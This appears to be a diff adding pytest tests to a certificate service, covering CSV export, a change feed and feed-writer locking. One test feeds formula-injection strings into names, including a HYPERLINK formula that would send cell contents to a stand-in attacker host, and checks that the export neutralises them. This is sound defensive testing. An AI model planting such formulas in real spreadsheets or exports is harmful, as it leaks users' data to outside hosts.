@@ -4,14 +4,20 @@ cursors, and the CSV export of the same query."""
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import csv
 import io
 import random
+import uuid
 
-from services.certification import store
+import asyncpg
+import pytest
+
+from services.certification.store import certificates as store
 from services.common.auth import Principal
 from services.common.pagination import encode_cursor
-from tests.certification.conftest import Service
+from tests.certification.conftest import Service, running
+from tests.support import Keys
 
 SERVICE = "certification"
 
@@ -182,3 +188,70 @@ async def test_csv_export_streams_the_same_query(svc: Service) -> None:
     empty = await svc.client.get("/v1/certificates/export.csv", params={"level": 4}, headers=svc.h("hr"))
     assert empty.text.strip().split(",")[0] == "seq" and len(empty.text.strip().splitlines()) == 1
     assert (await svc.client.get("/v1/certificates/export.csv", headers=svc.h("learner"))).status_code == 403
+
+
+async def test_export_neutralises_formula_cells_and_writes_crlf(svc: Service) -> None:
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r@x"]
+    for i, name in enumerate(hostile):
+        assert (await svc.issue(f"csv-{i}", level=0, name=name, org="=ORG")).status_code == 201
+    r = await svc.client.get("/v1/certificates/export.csv", headers=svc.h("hr"))
+    body = r.content.decode()
+    assert body.count("\r\n") == len(hostile) + 1 and "\n" not in body.replace("\r\n", "").replace('\r"', "")
+    rows = list(csv.DictReader(io.StringIO(body, newline="")))
+    assert [row["official_name"] for row in rows] == ["'" + name for name in hostile]
+    assert {row["org"] for row in rows} == {"'=ORG"}
+
+
+async def test_an_unrelated_open_transaction_does_not_hold_the_feed_back(svc: Service) -> None:
+    """An admin's psql session that wrote something and sits idle in its transaction holds no
+    feed writer lock: the feed keeps serving new changes."""
+    admin = await svc.db()
+    try:
+        tx = admin.transaction()
+        await tx.start()
+        await admin.execute("UPDATE signing_key SET created_at = created_at")  # it now has a transaction id
+        assert await admin.fetchval("SELECT pg_current_xact_id_if_assigned() IS NOT NULL")
+        y = (await svc.issue("official-after-psql", level=0)).json()
+        items, _ = await drain(svc, None)
+        assert [i["serial"] for i in items] == [y["serial"]]
+        await tx.rollback()
+    finally:
+        await admin.close()
+
+
+async def test_change_rows_need_the_feed_writer_lock(svc: Service) -> None:
+    conn = await svc.db()
+    try:
+        with pytest.raises(asyncpg.RaiseError, match="feed writer lock"):
+            await conn.execute(
+                "INSERT INTO change (xid, event, certificate_id, serial, official_id, official_name, org, level,"
+                " status, issued_at, changed_at) VALUES (pg_current_xact_id()::text::bigint, 'issued',"
+                " gen_random_uuid(), 'S', 'o', 'n', '', 0, 'active', now(), now())"
+            )
+    finally:
+        await conn.close()
+
+
+async def test_a_stalled_feed_writer_is_ended_after_the_bound(database_url: str, keys: Keys) -> None:
+    """A writer that holds the feed writer lock and stalls holds the feed back only until the server
+    ends it (feed_writer_timeout_seconds); its change is rolled back, later changes are served."""
+    async with running(database_url, keys, feed_writer_timeout_seconds=1.0) as svc:
+        x = (await svc.issue("official-stall", level=1)).json()
+        _, cursor = await drain(svc, None)
+        admin = Principal(sub="admin-stall", roles=frozenset({"admin"}))
+        stalled = svc.app.state.sessionmaker()
+        try:
+            await store.change_status(stalled, svc.app.state.issuer, admin, uuid.UUID(x["id"]), "suspend", "stall")
+            y = (await svc.issue("official-next", level=1)).json()
+            assert (await read_feed(svc, cursor))["items"] == []  # held back while the writer is alive
+            for _ in range(600):  # the server ends the idle writer after about a second
+                items = (await read_feed(svc, cursor))["items"]
+                if items:
+                    break
+                await asyncio.sleep(0.05)
+            assert [(i["event"], i["serial"]) for i in items] == [("issued", y["serial"])]
+        finally:
+            with contextlib.suppress(Exception):  # its connection was ended by the server
+                await stalled.close()
+        verify = (await svc.client.get(f"/v1/verify/{x['serial']}")).json()
+        assert verify["status"] == "valid"  # the stalled suspension never happened
